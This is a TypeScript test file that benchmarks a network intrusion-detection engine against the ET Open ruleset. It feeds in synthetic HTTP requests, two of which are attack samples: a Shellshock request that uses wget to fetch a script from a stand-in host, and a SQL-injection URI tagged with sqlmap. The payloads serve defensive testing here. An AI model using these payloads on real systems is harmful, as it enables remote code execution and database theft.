import { existsSync } from 'node:fs';
import { dirname, join, resolve } from 'node:path';
import { fileURLToPath } from 'node:url';
import { describe, expect, it } from 'vitest';
import { loadRules } from '../rule/rule-loader.js';
import { BufferId } from '../rule/buffer-registry.js';
import { AlertSink } from './alert.js';
import { DetectEngine } from './detect-engine.js';
import { DetectGlobalState } from './global-state.js';
import { FlowDirection, InspectionContext, type BufferProvider, type BufferView } from './inspection-context.js';
import { SyntheticPacket } from './synthetic-packet.js';

const repoRoot = resolve(dirname(fileURLToPath(import.meta.url)), '../../..');
const etRules = [join(repoRoot, '../shared/rulesets/et-open/rules'), '/work/shared/rulesets/et-open/rules'].find((p) =>
  existsSync(p),
);

const REQUESTS = [
  'GET /index.html HTTP/1.1\r\nHost: www.example.com\r\nUser-Agent: Mozilla/5.0 (Windows NT 10.0; Win64; x64)\r\nAccept: */*\r\n\r\n',
  'POST /wp-login.php HTTP/1.1\r\nHost: blog.example.org\r\nUser-Agent: curl/8.0\r\nContent-Type: application/x-www-form-urlencoded\r\nContent-Length: 27\r\n\r\nlog=admin&pwd=password123',
  'GET /cgi-bin/test.cgi?cmd=;wget%20http://203.0.113.9/x.sh HTTP/1.0\r\nHost: 10.0.0.5\r\nUser-Agent: () { :; }; /bin/bash -c "id"\r\n\r\n',
  'GET /api/v1/items?id=1%27%20UNION%20SELECT%20password%20FROM%20users-- HTTP/1.1\r\nHost: shop.example\r\nUser-Agent: sqlmap/1.7\r\n\r\n',
];

/** Splits a request into the HTTP buffers a parser would provide (enough for measuring, not a parser). */
class RequestBuffers implements BufferProvider {
  private readonly bufs = new Map<number, Uint8Array[]>();
  private readonly view: BufferView = { bytes: new Uint8Array(0), start: 0, end: 0 };

  constructor(req: string) {
    const [head = '', body = ''] = req.split('\r\n\r\n');
    const lines = head.split('\r\n');
    const [method = '', uri = '', proto = ''] = (lines[0] ?? '').split(' ');
    const put = (id: number, s: string): void => {
      const list = this.bufs.get(id) ?? [];
      list.push(Buffer.from(s, 'latin1'));
      this.bufs.set(id, list);
    };
    put(BufferId.HttpMethod, method);
    put(BufferId.HttpUri, decodeURIComponent(uri.replace(/%(?![0-9a-f]{2})/gi, '%25')));
    put(BufferId.HttpUriRaw, uri);
    put(BufferId.HttpProtocol, proto);
    put(BufferId.HttpRequestLine, lines[0] ?? '');
    put(BufferId.HttpStart, `${head}\r\n\r\n`);
    put(BufferId.HttpHeader, `${lines.slice(1).join('\r\n')}\r\n\r\n`);
    put(BufferId.HttpHeaderRaw, `${lines.slice(1).join('\r\n')}\r\n\r\n`);
    put(BufferId.HttpHeaderNames, `\r\n${lines.slice(1).map((l) => l.split(':')[0]).join('\r\n')}\r\n\r\n`);
    for (const l of lines.slice(1)) {
      put(BufferId.HttpRequestHeader, l);
      const colon = l.indexOf(':');
      const name = l.slice(0, colon).toLowerCase();
      const value = l.slice(colon + 1).trim();
      if (name === 'host') put(BufferId.HttpHost, value.toLowerCase());
      if (name === 'user-agent') put(BufferId.HttpUserAgent, value);
      if (name === 'content-type') put(BufferId.HttpContentType, value);
      if (name === 'content-length') put(BufferId.HttpContentLen, value);
      if (name === 'accept') put(BufferId.HttpAccept, value);
    }
    if (body !== '') {
      put(BufferId.HttpRequestBody, body);
      put(BufferId.FileData, body);
    }
  }

  getBuffer(bufferId: number, index: number): BufferView | null {
    const b = this.bufs.get(bufferId)?.[index];
    if (b === undefined) return null;
    this.view.bytes = b;
    this.view.start = 0;
    this.view.end = b.length;
    return this.view;
  }
}

describe.skipIf(etRules === undefined)('ET Open through the engine', () => {
  it('builds, and evaluates a small fraction of the rules per packet and transaction', () => {
    const ruleSet = loadRules([etRules as string]);
    global.gc?.();
    const heap0 = process.memoryUsage().heapUsed;
    const rss0 = process.memoryUsage().rss;
    const engine = DetectEngine.build(ruleSet.signatures);
    const heapDelta = process.memoryUsage().heapUsed - heap0;
    const rssDelta = process.memoryUsage().rss - rss0;

    const ctx = new InspectionContext(new SyntheticPacket(), new DetectGlobalState());
    const out = new AlertSink();
    const flow = {
      established: true,
      clientStreamBytes: 0,
      serverStreamBytes: 0,
      appProto: 'http',
      flowbits: engine.newFlowbits(),
      flowId: 1,
      passed: false,
      ipOnlyDone: 0,
    };
    const alertSids = new Set<number>();
    const packets = REQUESTS.map(
      (req) => new SyntheticPacket({ src: '198.51.100.7', dst: '10.0.0.5', srcPort: 50000, dstPort: 80, payload: req }),
    );
    const providers = REQUESTS.map((req) => new RequestBuffers(req));
    const rounds = 200;
    let packetMs = 0;
    let txMs = 0;
    for (let r = 0; r < rounds; r++) {
      for (let i = 0; i < REQUESTS.length; i++) {
        ctx.reset(packets[i]!, r * 1e6);
        ctx.direction = FlowDirection.ToServer;
        ctx.flow = flow;
        let t = performance.now();
        engine.inspectPacket(ctx, out);
        packetMs += performance.now() - t;
        for (const a of out.alerts) alertSids.add(a.sid);
        const tx = engine.newTxState();
        t = performance.now();
        engine.inspectAppLayer(ctx, providers[i]!, tx, r, out);
        txMs += performance.now() - t;
        for (const a of out.alerts) alertSids.add(a.sid);
      }
    }
    const s = engine.stats;
    const report = {
      loaded: ruleSet.signatures.length,
      ...engine.info,
      heapDeltaMiB: +(heapDelta / 2 ** 20).toFixed(1),
      rssDeltaMiB: +(rssDelta / 2 ** 20).toFixed(1),
      prefilterMiB: +(engine.info.prefilterBytes / 2 ** 20).toFixed(1),
      packetRulesPerPacket: +(s.packetRulesEvaluated / s.packets).toFixed(1),
      txRulesPerTx: +(s.txRulesEvaluated / s.transactions).toFixed(1),
      microsPerPacket: +((packetMs * 1000) / (rounds * REQUESTS.length)).toFixed(1),
      microsPerTx: +((txMs * 1000) / (rounds * REQUESTS.length)).toFixed(1),
      alertSids: [...alertSids].sort((a, b) => a - b),
    };
    console.log(JSON.stringify(report));
    expect(engine.info.signatures).toBe(ruleSet.signatures.length);
    expect(s.packetRulesEvaluated / s.packets).toBeLessThan(engine.info.packetSignatures / 10);
    expect(s.txRulesEvaluated / s.transactions).toBeLessThan(engine.info.txSignatures / 10);
    expect(alertSids.size).toBeGreaterThan(0);
  });
});
